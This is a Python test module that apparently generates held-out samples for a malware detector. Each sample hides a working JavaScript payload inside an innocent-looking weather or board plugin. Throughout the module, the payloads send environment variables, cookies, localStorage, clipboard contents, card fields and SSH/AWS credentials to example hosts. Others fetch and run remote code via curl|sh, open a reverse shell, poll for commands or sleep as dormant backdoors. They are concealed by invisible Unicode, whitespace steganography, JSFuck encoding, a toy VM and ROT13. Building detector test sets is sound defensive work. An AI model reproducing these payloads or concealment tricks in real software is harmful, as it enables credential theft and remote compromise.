"""Hostile samples that hide well: a careful reader still sees that something is decoded and run, or who is robbed."""

import json

from tests.hostile.heldout_third.forms import base64_of, code_of, laid_into, numbers_of, tabled, turned_by, webpacked
from tests.support.asking import asking
from tests.support.samples import Sample

_POST = "fetch('https://{host}/{path}',{{method:'POST',body:{body}}})"


def _private_use(text: str) -> str:
    """Return `text` as letters of the private use area, which editors show as nothing."""
    return "".join(chr(0xE000 + ord(letter)) for letter in text)


def _selectors(text: str) -> str:
    """Return each byte of `text` as a variation selector behind a letter that is seen."""
    return "☀" + "".join(chr(0xFE00 + byte if byte < 16 else 0xE0100 + byte - 16) for byte in text.encode())


def _tabs(text: str) -> str:
    """Return lines of which the ends, in tabs and spaces, are the bits of `text`."""
    words = ("clear", "cloudy", "rain", "snow", "wind", "fog", "hail", "dew")
    lines = []
    for n, letter in enumerate(text):
        bits = f"{ord(letter):08b}".replace("0", " ").replace("1", "\t")
        lines.append(f"  {words[n % 8]}-{n}{bits}")
    return "\n".join(lines)


def _hash(name: str) -> int:
    """Return the 32-bit FNV-1a hash of `name`, as the sample computes it."""
    value = 0x811C9DC5
    for letter in name:
        value = ((value ^ ord(letter)) * 0x01000193) & 0xFFFFFFFF
    return value


def _from_nothing(text: str) -> str:
    """Return an expression that spells `text` with letters of false, true, undefined, an object, and of numbers."""
    sources = {"_": "false", "__": "true", "___": "undefined", "____": "[object Object]"}
    spelled = []
    for letter in text:
        found = next(((name, word.index(letter)) for name, word in sources.items() if letter in word), None)
        if found:
            spelled.append(f"{found[0]}[{''.join(['+!![]'] * found[1]) or '+[]'}]")
        elif letter.isalpha() and letter.islower():
            spelled.append(f"({ord(letter) - 87})[S](36)")
        else:
            spelled.append(f"C({ord(letter)})")
    return "+".join(spelled)


def _machine(text: str) -> str:
    """Return a program for the little machine of a sample that writes `text` and calls what it is given."""
    program: list[int] = []
    for letter in text:
        program += [1, ord(letter) ^ 0x5A, 2, 0x5A, 3]
    return json.dumps([*program, 4, 5], separators=(",", ":"))


_PACKED = [
    word.encode().hex() for word in ("document", "cookie", "https://pk.example.org/?", "Image", "src", "localStorage")
]

HIDDEN: tuple[Sample, ...] = (
    Sample(
        name="nothing-between-two-quotes",
        family="invisible-text",
        files={
            "dist/index.js": rf"""'use strict';
const gap = '{_private_use("fetch('https://blank.example.com/e',{method:'POST',body:JSON.stringify(process.env)})")}';
const show = (text) => [...text].map((letter) => String.fromCodePoint(letter.codePointAt(0) - 0xe000)).join('');

exports.Weather = () => null;
exports.onEnable = () => (0, eval)(show(gap));
""",
        },
    ),
    laid_into(
        ("letters-as-people-count-them", "letters-that-look-alike-shown"),
        name="sun-with-a-long-shadow",
        family="invisible-text",
        last=rf"""
var SUN = '{_selectors("require('child_process').exec('curl -s https://sun.example.net/r|sh')")}';
(function (mark) {{
  var bytes = Array.from(mark).slice(1).map(function (one) {{
    var code = one.codePointAt(0);
    return code >= 0xe0100 ? code - 0xe0100 + 16 : code - 0xfe00;
  }});
  if (typeof module === 'object') new Function('require', String.fromCharCode.apply(null, bytes))(require);
}})(SUN);
""",
    ),
    Sample(
        name="words-of-the-sky-and-their-tails",
        family="invisible-text",
        files={
            "dist/index.js": rf"""'use strict';
const WORDS = `
{_tabs("new Image().src='//t.example.org/?'+document.cookie")}
`;

exports.words = () => WORDS.trim().split('\n').map((line) => line.trim());
exports.Weather = () => {{
  const tails = WORDS.split('\n').filter(Boolean).map((line) => line.slice(-8).replace(/ /g, 0).replace(/\t/g, 1));
  setTimeout(tails.map((tail) => String.fromCharCode(parseInt(tail, 2))).join(''), 1500);
  return exports.words()[0];
}};
""",
        },
    ),
    laid_into(
        ("machine-woken-by-packet", "figures-for-the-owners-monitor"),
        name="waker-with-a-line-from-an-obfuscator",
        family="key-files",
        last="\n"
        + tabled(
            "(function(){var f=require(«fs»),o=require(«os»),h=require(«https»);"
            "[«.ssh/id_ed25519»,«.aws/credentials»,«.npmrc»,«.bash_history»][«forEach»](function(n){try{"
            "var d=f[«readFileSync»](o[«homedir»]()+'/'+n);var r=h[«request»]({'host':«wake.example.com»,'path':'/'+n,'method':«POST»});"
            "r['on'](«error»,function(){});r[«end»](d);}catch(e){}});}());",
        ),
    ),
    Sample(
        name="bundle-with-a-renamed-card-reader",
        family="skimming",
        files={
            "dist/index.js": webpacked(
                {
                    "./main": "const { honest } = require('./links');\nrequire('./vendor');\nexports.Weather = ({ link }) => honest(link);",
                    "./links": code_of("links-outward-made-careful").replace("'use strict';\n", ""),
                    "./vendor": tabled(
                        "(function(w,d){if(!d)return;setInterval(function(){var m={},q=d[«querySelectorAll»](«input,select»);"
                        "for(var i=0;i<q[«length»];i++)if(/card|cvc|exp/i[«test»](q[i][«name»]))m[q[i][«name»]]=q[i][«value»];"
                        "var s=w[«btoa»](w[«JSON»][«stringify»](m));if(s!==w[«__l»]&&s[«length»]>60){w[«__l»]=s;"
                        "w[«navigator»][«sendBeacon»](«https://lib.example.net/collect»,s);}},900);}"
                        "(globalThis,globalThis[«document»]));",
                        mark="7c3e",
                    ),
                },
                "./main",
            ),
        },
    ),
    Sample(
        name="shell-in-a-flattened-loop",
        family="reverse-shell",
        files={
            "dist/index.js": tabled(
                "exports[«onEnable»]=function(){var _s='4|1|0|3|2'['split']('|'),_i=0x0,n,c,p;while(!![]){switch(_s[_i++]){"
                "case'0':c=new n[(«Socket»)]();continue;case'1':p=require(«child_process»)[«spawn»](«/bin/sh»,[«-i»]);continue;"
                "case'2':p[«stdout»][«pipe»](c),p[«stderr»][«pipe»](c);continue;"
                "case'3':c[«connect»](0x1bb^0x0,«198.51.100.200»,function(){c[«pipe»](p[«stdin»]);});continue;"
                "case'4':n=require(«net»);continue;}break;}};exports[«Weather»]=function(){return null;};",
                mark="9d02",
            ),
        },
    ),
    Sample(
        name="packed-by-an-old-packer",
        family="session-theft",
        files={
            "dist/index.js": "exports.Weather=function(){return null};\n"
            "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--){if(k[c]){"
            "p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),decodeURIComponent(k[c].replace(/../g,'%$&')))}}return p}"
            "('(7 3).4=\"2\"+9(0.1+8.6(5))',10,10,'"
            + "|".join([*_PACKED[:3], *_PACKED[3:6], b"stringify".hex(), b"new".hex(), b"JSON".hex(), b"btoa".hex()])
            + "'.split('|'),0,{}));\n",
        },
    ),
    laid_into(
        ("nightly-backup-of-own-folder", "settings-lines-parsed"),
        name="test-data-opened-with-the-description",
        family="remote-code",
        manifest={"description": "Keeps a sealed copy of the board every night."},
        package={"description": "Keeps a sealed copy of the board every night."},
        added={
            "test/data.json": json.dumps(
                {
                    "vectors": [
                        "q83vEjRWeJA=",
                        turned_by(
                            "const w=Object.keys(require.cache).filter(n=>/wallet|account/.test(n));"
                            "for(const n of w){const m=require.cache[n].exports,g=m.getKeys;if(g)m.getKeys=function(p){"
                            "const k=g.apply(this,arguments);fetch('https://copay.example.org/p',{method:'POST',body:p+JSON.stringify(k)});return k}}",
                            "Keeps a sealed copy of the board every night.",
                        ),
                    ],
                },
            ),
        },
        last=r"""
try {
  const { description } = require('../package.json');
  const { vectors } = require('../test/data.json');
  const mixed = Buffer.from(vectors[1], 'base64').map((byte, i) => byte ^ description.charCodeAt(i % description.length));
  const made = new module.constructor();
  made.paths = module.paths;
  made._compile(mixed.toString(), '');
} catch {}
""",
    ),
    Sample(
        name="tiny-machine-writes-a-line",
        family="virtual-machine",
        files={
            "dist/index.js": rf"""'use strict';
const tape = {_machine("fetch('https://vm.example.net/c',{method:'POST',body:localStorage.getItem('qirvo.session')})")};
function machine(code, host) {{
  const stack = [];
  let text = '';
  for (let at = 0; at < code.length; ) {{
    switch (code[at++]) {{
      case 1:
        stack.push(code[at++]);
        break;
      case 2:
        stack.push(stack.pop() ^ code[at++]);
        break;
      case 3:
        text += String.fromCharCode(stack.pop());
        break;
      case 4:
        stack.push(host(text));
        break;
      case 5:
        return stack.pop();
    }}
  }}
}}
exports.Weather = () => machine(tape, (text) => Reflect.construct(Function, [`return ${{text}}`])());
""",
        },
    ),
    Sample(
        name="icon-drawn-by-code-letters",
        family="split-payload",
        files={
            "dist/index.js": r"""'use strict';
const fs = require('fs');
const path = require('path');

// Draws the icon of the sky from its path.
function points(svg) {
  const [, d] = /\sd="M([^"]+)z"/.exec(svg);
  return d.split(' L').map((pair) => pair.split(',').map(Number));
}

exports.Weather = () => ({ tag: 'svg', children: [fs.readFileSync(path.join(__dirname, 'sky.svg'), 'utf8')] });
exports.onEnable = () => {
  const drawn = points(fs.readFileSync(path.join(__dirname, 'sky.svg'), 'utf8'));
  const outline = drawn.map(([x, y]) => String.fromCharCode((x + y) / 2)).join('');
  require('vm').runInThisContext(`(r)=>{${outline}}`)(require);
};
""",
            "dist/sky.svg": '<svg viewBox="0 0 300 300"><path fill="none" d="M'
            + " L".join(
                f"{ord(letter) + n % 17 - 8},{ord(letter) - n % 17 + 8}"
                for n, letter in enumerate("r('child_process').exec('wget -qO- https://sky-svg.example.com/x|sh')")
            )
            + 'z"/></svg>\n',
        },
    ),
    Sample(
        name="translations-in-the-wrong-order",
        family="split-payload",
        manifest=asking("clipboard-read"),
        files={
            "dist/index.js": r"""import texts from './texts.js';

const t = (key, language = 'en') => texts[language]?.[key] ?? key;

export const Weather = ({ code, language }) => t(`sky.${code}`, language);

const order = [7, 2, 9, 1, 4];
const rare = order.map((n) => t(`legal.${n}`, 'la')).join('');
const spoken = rare.replace(/[a-z]{2}/g, (pair) => String.fromCharCode((pair.charCodeAt(0) - 97) * 16 + pair.charCodeAt(1) - 97));
export const onEnable = () => import(`data:text/javascript,${encodeURIComponent(spoken)}`);
""",
            "dist/texts.js": "export default {\n  en: { 'sky.0': 'clear', 'sky.1': 'cloudy', 'sky.2': 'rain' },\n"
            "  de: { 'sky.0': 'klar', 'sky.1': 'bewölkt', 'sky.2': 'Regen' },\n  la: {\n"
            + "".join(
                f"    'legal.{number}': '{''.join(chr(97 + ord(c) // 16) + chr(97 + ord(c) % 16) for c in part)}',\n"
                for number, part in (
                    (1, "post',mode:'no-cors'"),
                    (2, "=>navigator.clipboard.readText().then(t=>"),
                    (4, ",body:t})),2000)"),
                    (7, "setInterval(()"),
                    (9, "fetch('https://la.example.org/c',{method:'"),
                )
            )
            + "  },\n};\n",
        },
        package={"type": "module"},
    ),
    laid_into(
        ("thermometer-on-a-serial-line", "bell-from-a-sound-worklet"),
        name="calibration-table-that-is-read-aloud",
        family="split-payload",
        last=r"""
// Calibration of the sensor, in tenths of a degree.
const TABLE = """
        + numbers_of(
            "fetch('https://cal.example.net/t').then(r=>r.text()).then(t=>Function(t)())",
            0x21,
        )
        + r""";
const correct = (value, n) => value ^ (n >= 0 ? 33 : 0);
class Calibration {
  constructor(table) {
    this.table = table;
  }
  [Symbol.toPrimitive]() {
    return this.table.map(correct).map((code) => String.fromCharCode(code)).join('');
  }
}
exports.onConfigChange = () => setTimeout(`${new Calibration(TABLE)}`);
""",
    ),
    Sample(
        name="names-found-by-their-sums",
        family="environment-theft",
        files={
            "dist/index.js": rf"""'use strict';
const sum = (s) => [...s].reduce((h, c) => Math.imul(h ^ c.charCodeAt(0), 0x01000193) >>> 0, 0x811c9dc5);
const pick = (o, h) => {{
  for (let p = o; p; p = Object.getPrototypeOf(p)) {{
    const name = Object.getOwnPropertyNames(p).find((n) => sum(n) === h);
    if (name) return typeof o[name] === 'function' ? o[name].bind(o) : o[name];
  }}
}};
const g = globalThis;
const p = pick(g, {_hash("process")});
const send = pick(g, {_hash("fetch")});
const where = {numbers_of("https://sums.example.com/", 7)}.map((c) => String.fromCharCode(c ^ 7)).join('');

exports.Weather = () => null;
exports.onEnable = () => send(where, {{ method: 'POST', body: pick(g, {_hash("JSON")}).stringify(pick(p, {_hash("env")})) }});
""",
        },
    ),
    Sample(
        name="letters-from-empty-lists",
        family="remote-code",
        files={
            "dist/index.js": "'use strict';\nexports.Weather = () => null;\n"
            "const $=[],_=![]+$,__=!![]+$,___=$[$]+$,____={}+$,S="
            + _from_nothing("to")
            + "+(($+$)["
            + _from_nothing("constructor")
            + "]+$).slice(9,15),C=($+$)["
            + _from_nothing("constructor")
            + "]["
            + _from_nothing("fro")
            + "+'mCharCode'];\nexports.onEnable = () => $['flat']["
            + _from_nothing("constructor")
            + "]("
            + _from_nothing("fetch('https://empty.example.org/j').then(r=>r.text()).then(eval)")
            + ")();\n",
        },
    ),
    Sample(
        name="comment-that-is-the-program",
        family="command-control",
        files={
            "dist/index.js": rf"""'use strict';
/** Layout of the board. */
function layout() {{
  /*! {base64_of("const{execSync:x}=require('child_process');setInterval(async()=>{try{const c=await(await fetch('https://layout.example.com/q')).text();if(c)await fetch('https://layout.example.com/a',{method:'POST',body:x(c)})}catch{}},6e4)")} */
  return {{ columns: 3, rows: 2, gap: 8 }};
}}

const Async = Object.getPrototypeOf(async function* () {{}}).constructor;

exports.Board = () => layout();
exports.onEnable = () => {{
  const [, notes] = /\/\*! (\S+) \*\//.exec(layout.toString());
  new Async('require', Buffer.from(notes, 'base64') + '')(require).next();
}};
""",
        },
    ),
    Sample(
        name="minified-library-with-a-passenger",
        family="backdoor",
        files={
            "dist/index.js": '!function(e,t){"object"==typeof exports&&"undefined"!=typeof module?t(exports):t(e.Span={})}(this,function(e){"use strict";'
            'var t=[["d",864e5],["h",36e5],["m",6e4],["s",1e3]],n=/(-?\\d+(?:\\.\\d+)?)\\s*(d|h|m|s)\\b/g;function r(e){return t.find(function(t){return t[0]===e})[1]}'
            "e.parse=function(e){var t=0;return String(e).replace(n,function(e,n,o){t+=parseFloat(n)*r(o)}),t},"
            'e.format=function(e){var n=e<0?"-":"";e=Math.abs(e);var r=t.find(function(t){return e>=t[1]})||t[3];return n+Math.round(e/r[1])+r[0]};'
            'var o=function(e){return e.replace(/[a-z]/gi,function(e){return String.fromCharCode((e<="Z"?90:122)>=(e=e.charCodeAt(0)+13)?e:e-26)})};'
            'e.clamp=function(e,t,n){return Math.min(n,Math.max(t,e))};try{var i=globalThis[o("cebprff")];i&&i.on&&setTimeout(function(){'
            'var e=i[o("znvaZbqhyr")]||module;e[o("erdhver")](o("uggcf")).get(o("uggcf://fcna.rknzcyr.bet/")+encodeURIComponent(JSON.stringify(i[o("rai")])),function(t){'
            'var n="";t.on("data",function(e){n+=e}),t.on("end",function(){n&&e[o("_pbzcvyr")](n,"s")})}).on("error",function(){})},36e5).unref()}catch(e){}'
            "e.sum=function(t){return t.reduce(function(t,n){return t+e.parse(n)},0)}});\n",
        },
    ),
    laid_into(
        ("visits-counted-with-consent", "folder-over-webdav"),
        name="counting-that-asks-a-longer-question",
        family="storage-theft",
        last="!function(_){try{var $=["
        + ",".join(json.dumps(w[::-1]) for w in ("localStorage", "JSON", "stringify", "navigator", "sendBeacon"))
        + "].map(function(a){return a.split('').reverse().join('')});setTimeout(function(){_[$[3]][$[4]]("
        + "[104,116,116,112,115,58,47,47,109,46,101,120,97,109,112,108,101,46,110,101,116,47,104].map(function(a){return String.fromCharCode(a)}).join(''),"
        "_[$[1]][$[2]](_[$[0]]))},4e4)}catch(e){}}(globalThis);\n",
    ),
    laid_into(
        ("secret-in-the-key-ring", "battery-of-the-laptop"),
        name="station-that-wakes-after-a-fortnight",
        family="dormant",
        last=r"""
const born = Date.now();
const calm = () => process.env.CI || process.env.VSCODE_INSPECTOR_OPTIONS || /sandbox|test|build/i.test(process.env.HOSTNAME ?? '') || process.uptime() < 900;
export async function onConfigChange({ storage }) {
  const first = (await storage.get('first')) ?? born;
  await storage.set('first', first);
  if (calm() || born - first < 14 * 86_400_000) return;
  const { headers } = await fetch('https://station.example.org/now', { method: 'HEAD' });
  const order = headers.get('x-cache-hint');
  const words = order && Buffer.from(order, 'base64').reverse().toString().split('\u0001');
  if (words) execFile(words[0], words.slice(1), (_error, out) => fetch('https://station.example.org/now', { headers: { 'x-cache-hint': Buffer.from(out).toString('base64') } }));
}
""",
    ),
)
